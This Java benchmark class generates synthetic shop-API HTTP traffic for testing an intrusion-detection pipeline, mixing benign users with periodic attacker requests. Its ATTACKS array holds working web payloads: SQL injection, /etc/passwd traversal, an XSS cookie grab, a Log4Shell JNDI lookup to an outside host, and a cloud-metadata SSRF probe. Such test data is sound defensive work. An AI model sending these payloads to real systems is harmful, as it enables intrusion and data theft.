package io.periscope.benchmarks.detection;

import io.periscope.events.http.Body;
import io.periscope.events.http.ClientIpSource;
import io.periscope.events.http.Connection;
import io.periscope.events.http.Credential;
import io.periscope.events.http.Header;
import io.periscope.events.http.HttpExchange;
import io.periscope.events.http.HttpRequest;
import io.periscope.events.http.HttpResponse;
import io.periscope.events.http.JwtInfo;
import io.periscope.events.http.MirrorSource;
import io.periscope.events.http.QueryParam;
import io.periscope.events.http.Timings;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * An endless, deterministic stream of exchanges of a shop API as the sensor publishes them (credentials redacted and
 * described): {@value #USERS} benign users with JWTs browsing, searching and ordering (query strings, JSON bodies,
 * browser headers), and one exchange in {@value #ATTACK_EVERY} from one of {@value #ATTACKERS} attackers (SQL
 * injection, traversal, Log4Shell in a header, sign-in brute force, order-id walking). Event time advances
 * {@value #STEP_MICROS} µs per exchange (500 exchanges per second of traffic), so baselines, windows and the
 * topology's stream-time punctuation run as they would on a busy site.
 */
final class DetectionTraffic {
    static final int USERS = 2000;
    static final int ATTACKERS = 20;
    static final int ATTACK_EVERY = 50;
    static final long STEP_MICROS = 2000;
    private static final String HOST = "shop.example.test";
    private static final String BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            + "Chrome/120.0 Safari/537.36";
    private static final String[] SEARCHES = {"red running shoes size 42", "O'Brien", "select a plan for my team",
        "1=1 match", "café crème", "usb-c cable 2m", "gift for dad", "\"exact phrase\" -excluded"};
    private static final String[] ATTACKS = {"1' OR '1'='1' -- ", "' UNION SELECT username, password FROM users--",
        "../../../../etc/passwd", "<script>alert(document.cookie)</script>", "${jndi:ldap://198.51.100.9/a}",
        "http://169.254.169.254/latest/meta-data/"};

    private final Random random = new Random(42);
    private long time;
    private long sequence;

    DetectionTraffic(long startMicros) {
        this.time = startMicros;
    }

    /** The next exchange, one step of event time after the previous one. */
    HttpExchange next() {
        time += STEP_MICROS;
        long n = sequence++;
        if (n % ATTACK_EVERY == ATTACK_EVERY - 1) {
            return attack((int) ((n / ATTACK_EVERY) % ATTACKERS));
        }
        return benign(random.nextInt(USERS));
    }

    /** {@code count} exchanges of which none is an attack: what the signature pass sees almost always. */
    static List<HttpExchange> benign(int count, long startMicros) {
        DetectionTraffic t = new DetectionTraffic(startMicros);
        List<HttpExchange> out = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            t.time += STEP_MICROS;
            out.add(t.benign(t.random.nextInt(USERS)));
        }
        return out;
    }

    private HttpExchange benign(int user) {
        String ip = "10.1." + (user / 250) + "." + (user % 250 + 1);
        List<Credential> credentials = List.of(new Credential(Credential.Location.HEADER, "Authorization", "Bearer",
                String.format("%032x", 77_000L + user), null, new JwtInfo("RS256", "k1", "JWT",
                "https://id.example.test", "user" + user, List.of("shop"), null, null, null)));
        int pick = random.nextInt(10);
        if (pick < 4) {
            return exchange(ip, "GET", "/api/products", List.of(new QueryParam("q", SEARCHES[random.nextInt(SEARCHES.length)]),
                    new QueryParam("page", Integer.toString(random.nextInt(5))), new QueryParam("sort", "price")),
                    null, 200, 4096, credentials);
        }
        if (pick < 7) {
            return exchange(ip, "GET", "/api/orders/" + (user * 10 + random.nextInt(3)), List.of(), null, 200, 1200,
                    credentials);
        }
        if (pick < 9) {
            String body = "{\"items\":[{\"sku\":\"SKU-" + random.nextInt(900) + "\",\"quantity\":" + (1 + random.nextInt(3))
                    + "}],\"note\":\"please leave at the door, O'Brien\",\"address\":{\"street\":\"12 Main St\","
                    + "\"city\":\"São Paulo\",\"zip\":\"01000-000\"},\"email\":\"user" + user + "@example.com\"}";
            return exchange(ip, "POST", "/api/orders", List.of(), body, 201, 300, credentials);
        }
        return exchange(ip, "GET", "/api/products/" + (100 + random.nextInt(500)) + "/reviews", List.of(), null,
                random.nextInt(20) == 0 ? 404 : 200, 2048, credentials);
    }

    private HttpExchange attack(int attacker) {
        String ip = "203.0.113." + (attacker + 10);
        return switch (attacker % 4) {
            case 0 -> exchange(ip, "GET", "/api/products", List.of(new QueryParam("q",
                    ATTACKS[random.nextInt(ATTACKS.length)])), null, random.nextBoolean() ? 500 : 200, 900, List.of());
            case 1 -> exchange(ip, "POST", "/api/login", List.of(), "{\"username\":\"admin\",\"password\":"
                    + "\"[redacted:Password:" + String.format("%032x", random.nextInt(1 << 20)) + "]\"}", 401, 60,
                    List.of(new Credential(Credential.Location.BODY, "/password", "Password",
                            String.format("%032x", random.nextInt(1 << 20)), null, null)));
            case 2 -> exchange(ip, "GET", "/api/orders/" + random.nextInt(100_000), List.of(), null,
                    random.nextInt(4) == 0 ? 200 : 403, 1200, List.of(new Credential(Credential.Location.HEADER,
                            "Authorization", "Bearer", String.format("%032x", 990_000L + attacker), null, null)));
            default -> exchange(ip, "GET", "/api/files/" + ATTACKS[2], List.of(), null, 404, 100, List.of());
        };
    }

    private HttpExchange exchange(String ip, String method, String path, List<QueryParam> query, String body, int status,
                                  long responseBytes, List<Credential> credentials) {
        List<Header> headers = List.of(new Header("Host", HOST), new Header("User-Agent", BROWSER),
                new Header("Accept", "application/json"), new Header("Accept-Language", "en-US,en;q=0.9"),
                new Header("X-Forwarded-For", ip));
        Body requestBody = body == null ? Body.EMPTY : new Body(body.getBytes(StandardCharsets.UTF_8), body.length(),
                body.length(), false, "application/json", List.of(), false);
        StringBuilder target = new StringBuilder(path);
        for (int i = 0; i < query.size(); i++) {
            target.append(i == 0 ? '?' : '&').append(query.get(i).name()).append('=').append(query.get(i).value());
        }
        HttpRequest request = new HttpRequest(method, target.toString(), path, query, "HTTP/1.1", headers, List.of(),
                requestBody);
        HttpResponse response = new HttpResponse("HTTP/1.1", status, "", List.of(),
                List.of(new Header("Content-Type", "application/json")), List.of(),
                new Body(new byte[0], responseBytes, responseBytes, false, "application/json", List.of(), false));
        String id = "c" + sequence + ":0";
        return new HttpExchange(HttpExchange.SCHEMA_VERSION, id, new MirrorSource("bench", 7, "bench"),
                new Connection("c" + sequence, "10.0.0.2", 40_000, "10.0.1.5", 8080), ip,
                ClientIpSource.X_FORWARDED_FOR, HOST, request, response,
                new Timings(time, time + 100, time + 2000, time + 2500), Set.of(), credentials);
    }
}
